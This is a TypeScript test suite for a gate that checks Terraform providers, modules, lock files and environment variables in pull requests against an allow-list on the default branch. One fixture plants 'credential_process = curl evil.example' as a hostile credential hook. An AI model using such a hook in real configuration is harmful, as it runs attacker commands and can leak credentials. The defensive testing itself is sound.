/** The list, the lock file and the commits of modules are compared with the default branch, never with what is judged. */
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { readRuleFile } from '../../src/archive/ignore-rules.ts';
import { openAllowedSources, type SourcesSettings } from '../../src/check/open-allowed-sources.ts';
import type { RulesOfJob } from '../../src/check/sent-rules.ts';
import { execute } from '../../src/machine/execute.ts';
import { openAt } from '../../src/machine/find-repository.ts';
import { alarms } from '../../src/machine/system-clock.ts';
import { historyOf, historyOnServer, reachIn } from '../../src/trust/branch-history.ts';
import type {
  JudgedBySources,
  KnownLater,
  PlaceOfFiles,
} from '../../src/policy/systems/allowed-sources.ts';
import { readCommitId } from '../../src/model/commit-id.ts';
import { textOf } from '../../src/model/finding.ts';
import { asTrusted } from '../../src/trust/tree.ts';
import { emptyDirectory } from '../support/empty-directory.ts';
import { describe, expect, test } from '../support/jest.ts';
import { openRepository } from '../support/repository.ts';
import type { Layout } from '../support/tree.ts';
import { filesOfCommit, proposedTree } from '../support/trusted-tree.ts';

const ports = { execute, environment: { PATH: process.env['PATH'] }, alarms };
const FILE = 'gate/allowed.json';
const LIST = JSON.stringify({ providers: ['hashicorp/aws'], modules: ['github.com/acme/*'] });
const AWS = 'resource "aws_s3_bucket" "a" {}\n';
const LEAK = 'resource "leak_thing" "a" {}\n';
const LOCK = `provider "registry.terraform.io/hashicorp/aws" {\n  version = "5.0.0"\n  hashes  = ["h1:a"]\n}\n`;

/** A remote, and the clone of a change on it. */
function makeClone(files: Layout, ...words: string[]) {
  const remote = openRepository(emptyDirectory());
  const head = remote.commit({ 'main.tf': AWS, [FILE]: LIST, ...files });
  const root = join(emptyDirectory(), 'clone');
  remote.git('clone', '-q', ...words, `file://${remote.root}`, root);
  return { remote, clone: openRepository(root), root, head };
}

async function judge(...of: Parameters<typeof judgeFiles>) {
  const judged = await judgeFiles(...of);
  if (!('evidence' in judged)) return judged;
  const { results, doubts } = judged.evidence.reading;
  return [...results.flatMap(({ output }) => output), ...doubts.map(textOf)];
}

/** Each directory by its own rules. */
const rulesHere: RulesOfJob = {
  at: async (root) => ({ rules: await readRuleFile(root, root) }),
  textOnBranch: async () => undefined,
};

/** What the list says of the files, or what is wrong with it. */
async function judgeFiles(
  root: string,
  more: Partial<SourcesSettings> & { isUploaded?: boolean } = {},
  environment: Readonly<Record<string, string>> = {},
  place: Partial<PlaceOfFiles> = {},
) {
  const jobTree = proposedTree(root);
  const { written = FILE, isUploaded = false, ...others } = more;
  const opened = await openAllowedSources(
    written.split('+'),
    {
      directory: root,
      workingDirectory: root,
      jobTree,
      today: '2026-11-29',
      program: undefined,
      repositoryAddresses: ['https://github.com/acme/infra'],
      sent: isUploaded ? async () => rulesHere : undefined,
      plansWithJob: true,
      ...others,
    },
    { ...ports, environment: { ...ports.environment, ...environment } },
  );
  if (opened === undefined) throw new Error('no list');
  if ('problems' in opened) {
    return opened.problems.map(({ where, message }) => `${where} ${message}`);
  }
  return opened.judge({ root, workingDirectory: '', ...place });
}

/** A job whose default branch is at a commit of the clone. */
function treeHere(root: string, commit: string): SourcesSettings['jobTree'] {
  const repository = openAt(root);
  const id = readCommitId(commit);
  if (repository === undefined || id === undefined) throw new Error('no repository');
  return proposedTree(root, {
    trusted: async () => asTrusted(filesOfCommit(root, id)),
    trustedCommit: async () => ({ commit: id, repository }),
  });
}

describe('the files of a job', () => {
  test('are judged by the list of the default branch, and not by that of the pull request', async () => {
    const { clone, root } = makeClone({});
    expect(await judge(root)).toEqual([]);
    clone.commit({ 'main.tf': LEAK, [FILE]: JSON.stringify({ providers: ['hashicorp/*'] }) });
    expect(await judge(root)).toEqual([
      'provider `registry.terraform.io/hashicorp/leak` is not on the list',
    ]);
  });

  test('are not judged by a list that only the pull request has, and do not pass', async () => {
    const { clone, root } = makeClone({ [FILE]: undefined as never });
    clone.commit({ [FILE]: LIST });
    const [said = ''] = await judge(root);
    expect(said).toContain('is not on the default branch');
  });

  test('lack a lock file that the pull request deletes', async () => {
    const { clone, root } = makeClone({ '.terraform.lock.hcl': LOCK });
    expect(await judge(root)).toEqual([]);
    clone.commit({ '.terraform.lock.hcl': undefined });
    expect((await judge(root)).join()).toContain('is missing here');
  });

  test('are no state and no program, if git does not track them', async () => {
    const { clone, root } = makeClone({ '.gitignore': '.terraform\n*.tfstate\n' });
    clone.write({ '.terraform/providers/x': 'x', 'terraform.tfstate': '{}' });
    expect(await judge(root)).toEqual([]);
    clone.git('add', '-f', 'terraform.tfstate', '.terraform/providers/x');
    expect(await judge(root)).toHaveLength(2);
  });

  test('are those of the planned commit, and not those that are checked out', async () => {
    const { clone, root, head } = makeClone({ 'm/main.tf': AWS });
    const call = 'module "m" {\n  source = "./m"\n}\n';
    const commit = clone.commit({ 'main.tf': call, 'm/main.tf': LEAK });
    clone.git('checkout', '-q', head);
    expect(await judge(root)).toEqual([]);
    expect((await judge(root, { commit })).join()).toContain('hashicorp/leak');
    await expect(judge(root, { commit: 'f'.repeat(40) })).rejects.toThrow('git does not have');
  });
});

describe('a lock file proves a version', () => {
  const list = JSON.stringify({ providers: [{ source: 'hashicorp/aws', version: '5.0.0' }] });
  const judged = (rules: string, more: Parameters<typeof judge>[1] = {}, files: Layout = {}) => {
    const locked = { '.terraform.lock.hcl': LOCK, '.terraformignore': rules, [FILE]: list };
    const { root } = makeClone({ ...locked, ...files });
    return judge(root, more);
  };

  test.each(['', '*.tfvars\n', '.terraform.lock.hcl\n!.terraform.lock.hcl\n', 'net/*.hcl\n'])(
    'where it is sent by %j',
    async (rules) => {
      expect(await judged(rules, { isUploaded: true })).toEqual([]);
    },
  );

  test.each([
    '.terraform.lock.hcl\n',
    '*.hcl\n',
    '*.lock.*\n',
    '/.terraform.*\n',
    '*.lock.hcl\u0085\n',
  ])('and not where %j keeps it out of the upload', async (rules) => {
    const said = (await judged(rules, { isUploaded: true })).join();
    expect(said).toContain('`.terraformignore` keeps the lock file out of the upload');
    // Nothing is sent of what a program here, or version control, plans.
    expect(await judged(rules, { isUploaded: false })).toEqual([]);
  });

  test.each([
    ['the lock file', 'lock.hcl', '.terraform.lock.hcl'],
    ['a file with an exact version', 'versions.tf', 'x_override.tf'],
    ['the directory of a module', '', 'm'],
  ])('where a link is sent with what it leads to: %s', async (_, target, link) => {
    const exact = 'terraform {\n  required_providers {\n    aws = "5.0.0"\n  }\n}\n';
    const layout = { 'shared/lock.hcl': LOCK, 'shared/versions.tf': exact };
    const call = link === 'm' ? 'module "m" {\n  source = "./m"\n}\n' : '';
    for (const rules of ['', 'shared/\n', 'shared/*\n']) {
      const files = { ...layout, 'main.tf': AWS + call, '.terraformignore': rules };
      const { root } = makeClone({ ...files, [FILE]: list });
      symlinkSync(`./shared/${target}`, join(root, link));
      const said = (await judge(root, { isUploaded: true })).join();
      if (rules === '') expect(said).toBe('');
      else expect(said).toContain('its version is not known before it is installed');
    }
  });

  test('of the directory that is uploaded, by the rules there alone', async () => {
    const layout = { 'net/.terraform.lock.hcl': LOCK, 'net/main.tf': AWS };
    const { root } = makeClone({ ...layout, '.terraformignore': '*.hcl\n', [FILE]: list });
    expect(await judge(root, { isUploaded: true }, {}, { root: join(root, 'net') })).toEqual([]);
    const inside = { root, workingDirectory: 'net' };
    expect((await judge(root, { isUploaded: true }, {}, inside)).join()).toContain('out of the');
  });

  test('and nothing is judged where the rules cannot be read', async () => {
    const rules = { '.terraformignore/x': '' };
    const { root } = makeClone({ '.terraform.lock.hcl': LOCK, [FILE]: list, ...rules });
    await expect(judge(root, { isUploaded: true })).rejects.toThrow('nothing is packed');
  });
});

describe('files that are judged again', () => {
  const REGISTRY = 'registry.terraform.io';
  const saidOf = ({ evidence }: JudgedBySources) => evidence.reading.results;

  test.each<[string, KnownLater]>([
    [
      'a plan that names it too',
      { plan: { resource_changes: [{ provider_name: `${REGISTRY}/hashicorp/leak` }] } },
    ],
    ['what `init` installed', { lockFile: LOCK.replace('hashicorp/aws', 'hashicorp/leak') }],
  ])(
    'have one result with %s, which says each thing once and keeps its place',
    async (_, later) => {
      const { clone, root } = makeClone({});
      clone.commit({ 'main.tf': LEAK });
      const first = await judgeFiles(root);
      if (!('evidence' in first)) throw new Error(first.join());
      const again = await first.again?.(later);
      expect(again && saidOf(again)).toEqual(saidOf(first));
      expect(again?.notices).toEqual(first.notices);
    },
  );

  test.each<[string, KnownLater]>([
    ['a plan', { plan: { resource_changes: [{ provider_name: `${REGISTRY}/evil/leak` }] } }],
    ['`init`', { lockFile: LOCK.replace('hashicorp/aws', 'evil/leak') }],
  ])('are refused for what only %s names, and for what was refused before', async (_, later) => {
    const { clone, root } = makeClone({});
    for (const [text, output] of [
      [AWS, []],
      [LEAK, ['hashicorp/leak']],
    ] as const) {
      clone.commit({ 'main.tf': `${text}# judged\n` });
      const first = await judgeFiles(root);
      if (!('evidence' in first)) throw new Error(first.join());
      const [result, ...others] = saidOf((await first.again?.(later)) ?? first);
      expect(others).toEqual([]);
      expect(result?.output).toEqual(
        [...output, 'evil/leak'].map((name) => expect.stringContaining(`/${name}\``)),
      );
    }
  });
});

describe('what the environment tells the program', () => {
  const told = (root: string, words: string) => judge(root, {}, { TF_CLI_ARGS_init: words });

  test.each(['-test-directory=spec', '-test-directory spec', '--test-directory "spec"'])(
    'tests are looked for by %s',
    async (words) => {
      const { root } = makeClone({
        'spec/a.tftest.hcl': 'run "a" {\n  module {\n    source = "evil/x/aws"\n  }\n}\n',
      });
      expect(await told(root, '')).toEqual([]);
      expect((await told(root, words)).join()).toContain('is not on the list');
    },
  );

  test.each(['-upgrade', '--upgrade', '-upgrade=true', '-upgrade=T', '-upgrade=1'])(
    'no lock file is read with %s',
    async (words) => {
      const list = JSON.stringify({ providers: [{ source: 'hashicorp/aws', version: '5.0.0' }] });
      const { root } = makeClone({ '.terraform.lock.hcl': LOCK, [FILE]: list });
      for (const word of ['false', 'FALSE', 'False', 'F', 'f', '0']) {
        expect(await told(root, `-upgrade=${word}`)).toEqual([]);
      }
      expect((await told(root, words)).join()).toContain('its version is not known');
    },
  );

  test.each<[name: string, value: (root: string) => string]>([
    ['TF_CLI_CONFIG_FILE', (root) => join(root, 'gate/config')],
    ['TERRAFORM_CONFIG', () => 'gate/config'],
    ['TF_PLUGIN_CACHE_DIR', (root) => join(root, '.cache')],
    ['AWS_CONFIG_FILE', (root) => join(root, 'gate/config')],
    ['AWS_SHARED_CREDENTIALS_FILE', () => './gate/config'],
    ['GOOGLE_APPLICATION_CREDENTIALS', (root) => join(root, 'gate/config')],
    ['ARM_CLIENT_CERTIFICATE_PATH', () => 'gate/config'],
    ['KUBECONFIG', (root) => `/nowhere:${root}/gate/config`],
    ['XDG_CONFIG_HOME', (root) => join(root, 'gate')],
    ['GIT_CONFIG_GLOBAL', (root) => join(root, 'gate/config')],
    ['HOME', (root) => root],
  ])('%s that leads into the files of a pull request is refused', async (name, value) => {
    const { clone, root } = makeClone({ 'gate/config': '' });
    clone.commit({ 'gate/config': 'credential_process = curl evil.example\n' });
    const link = join(emptyDirectory(), 'link');
    symlinkSync(root, link);
    for (const place of [root, link]) {
      const said = await judge(root, {}, { [name]: value(place) });
      expect(said).toEqual([expect.stringMatching(new RegExp(`^${name} leads to "`))]);
    }
    // A service, and a program that is started here, have environments of their own.
    expect(await judge(root, { plansWithJob: false }, { [name]: value(root) })).toEqual([]);
  });

  test('files that are as on the default branch, or outside, lead nowhere', async () => {
    const { clone, root } = makeClone({ 'gate/config': '' });
    clone.commit({ 'gate/other': '' });
    const variables = { AWS_CONFIG_FILE: join(root, 'gate/config'), XDG_CONFIG_HOME: '/nowhere' };
    expect(await judge(root, {}, variables)).toEqual([]);
  });
});

test('what is wrong with the list names its file', async () => {
  const { root } = makeClone({ [FILE]: '{' });
  const said = expect.stringMatching(`^${FILE}: allowed-sources is not a JSON object`);
  expect(await judge(root)).toEqual([said]);
});

describe('a commit in the source of a module of the repository under judgement', () => {
  const call = (commit: string) =>
    `module "m" {\n  source = "git::https://github.com/acme/infra.git//m?ref=${commit}"\n}\n`;

  test('counts where the default branch has it', async () => {
    const { clone, root, head } = makeClone({});
    clone.write({ 'main.tf': call(head) });
    expect(await judge(root)).toEqual([]);
  });

  test('does not count where only the branch of the pull request has it', async () => {
    const { clone, root } = makeClone({});
    const own = clone.commit({ 'm/main.tf': LEAK });
    clone.write({ 'main.tf': call(own) });
    expect((await judge(root)).join()).toContain('does not have the commit');
  });

  test('is refused where the history is not here', async () => {
    const { remote, head } = makeClone({});
    remote.commit({ 'other.tf': '' });
    // The last commit itself names the one before it.
    remote.commit({ 'third.tf': '' });
    const root = join(emptyDirectory(), 'shallow');
    remote.git('clone', '-q', '--depth=1', `file://${remote.root}`, root);
    openRepository(root).write({ 'main.tf': call(head) });
    expect((await judge(root)).join()).toContain('it is not known whether the default branch');
  });
});

describe('the repository under judgement', () => {
  const evil = (name: string, commit: string) =>
    `module "m" {\n  source = "git::${name}//m?ref=${commit}"\n}\n`;
  /** No server answers. */
  const UNREACHED = { HTTPS_PROXY: 'http://127.0.0.1:9' };
  const GIT = 'ssh://git@git.acme.example/acme/infra.git';
  const names = JSON.stringify({
    providers: ['hashicorp/aws'],
    modules: [
      'git.acme.example/acme/*',
      'git.acme.example/scm/acme/*',
      'git.acme.example:8443/acme/*',
      'git.acme.example:2222/acme/*',
      'other.example/acme/*',
      'other.example/team/*',
      'other.example/git/acme/infra/.git',
    ],
  });

  test.each<[source: string, addresses: string[], origin: string]>([
    ['https://git.acme.example/acme/infra.git', [], GIT],
    ['https://git.acme.example/acme/infra.git', [], 'git@git.acme.example:acme/infra'],
    ['https://git.acme.example:8443/acme/infra.git', [], GIT],
    ['ssh://git@git.acme.example:2222/acme/infra.git', [], 'https://git.acme.example/acme/infra/'],
    ['https://git.acme.example/acme/infra.git', [], 'https://Bot@Git.Acme.Example/Acme/Infra.git/'],
    ['https://git.acme.example/acme/infra.git', ['https://git.acme.example/acme/infra'], '/srv/x'],
    ['https://git.acme.example/acme/infra.git', [], 'work:acme/infra.git'],
    ['https://git.acme.example/acme/infra.git', [], '/var/mirror/acme/infra.git'],
    [
      'https://git.acme.example/scm/acme/infra.git',
      [],
      'ssh://git@git.acme.example:7999/acme/infra.git',
    ],
    ['https://other.example/acme/infra.git', ['https://git.acme.example/acme/infra'], GIT],
    ['https://other.example/git/acme/infra/.git', ['https://git.acme.example/acme/infra'], GIT],
    // It was renamed, so the commit alone says which repository this is.
    ['https://other.example/team/renamed.git', ['https://git.acme.example/acme/infra'], GIT],
  ])(
    'is known as %s where the job says %j, and its clone %s',
    async (source, addresses, origin) => {
      const { clone, root, head } = makeClone({ [FILE]: names });
      const own = clone.commit({ 'm/main.tf': LEAK });
      clone.write({ 'main.tf': evil(source, own) });
      // Set after the clone, because git would ask it for what the clone lacks.
      const here = { jobTree: treeHere(root, head), repositoryAddresses: addresses };
      clone.git('remote', 'set-url', 'origin', origin);
      expect((await judge(root, here, UNREACHED)).join()).toContain('does not have the commit');
      clone.write({ 'main.tf': evil(source, head) });
      expect(await judge(root, here, UNREACHED)).toEqual([]);
    },
  );

  test('is known by the address of any remote', async () => {
    const { clone, root, head } = makeClone({ [FILE]: names });
    const own = clone.commit({ 'm/main.tf': LEAK });
    clone.write({ 'main.tf': evil('https://git.acme.example/acme/infra.git', own) });
    clone.git('remote', 'add', 'upstream', GIT);
    const here = { jobTree: treeHere(root, head), repositoryAddresses: [] };
    expect((await judge(root, here, UNREACHED)).join()).toContain('does not have the commit');
  });

  test('is known by its path where the clone does not have the commit', async () => {
    const { clone, root, head } = makeClone({ [FILE]: names });
    clone.write({ 'main.tf': evil('https://other.example/acme/infra.git', 'f'.repeat(40)) });
    const here = { jobTree: treeHere(root, head), repositoryAddresses: [GIT] };
    expect((await judge(root, here, UNREACHED)).join()).toContain('does not have the commit');
  });

  test('is not every other one whose server does not answer', async () => {
    const { clone, root, head } = makeClone({ [FILE]: names });
    clone.write({ 'main.tf': evil('https://other.example/acme/vpc.git', 'f'.repeat(40)) });
    const here = { jobTree: treeHere(root, head), repositoryAddresses: [GIT] };
    expect(await judge(root, here, UNREACHED)).toEqual([]);
  });
});

describe('the default branch of another repository', () => {
  test('is asked for the commit, without its files', async () => {
    const remote = openRepository(emptyDirectory());
    remote.git('config', 'uploadpack.allowFilter', 'true');
    const first = remote.commit({ 'main.tf': '' });
    remote.commit({ 'main.tf': 'x' });
    remote.git('checkout', '-q', '-b', 'evil');
    const evil = remote.commit({ 'main.tf': 'evil' });
    remote.git('checkout', '-q', '-');
    const address = `file://${remote.root}`;
    const history = await historyOnServer(address, ports);
    expect([first, evil].map((id) => reachIn(history, id))).toEqual(['reached', 'not-reached']);
    const nothing = await historyOnServer('file:///nowhere/x.git', ports);
    expect(reachIn(nothing, first)).toBe('unknown');
  });

  test('has the commits before a merge on both sides', async () => {
    const { root, git, commit } = openRepository(emptyDirectory());
    commit({ a: '' });
    git('checkout', '-q', '-b', 'side');
    const side = commit({ b: '' });
    git('checkout', '-q', '-');
    commit({ c: '' });
    git('merge', '-q', '--no-edit', 'side');
    const tip = git('rev-parse', 'HEAD').trim() as never;
    const repository = openAt(root);
    if (repository === undefined) throw new Error('no repository');
    expect(reachIn(await historyOf(tip, repository, ports), side)).toBe('reached');
    // Git has no such commit, and lists nothing.
    expect(await historyOf('f'.repeat(40) as never, repository, ports)).toBeUndefined();
  });
});
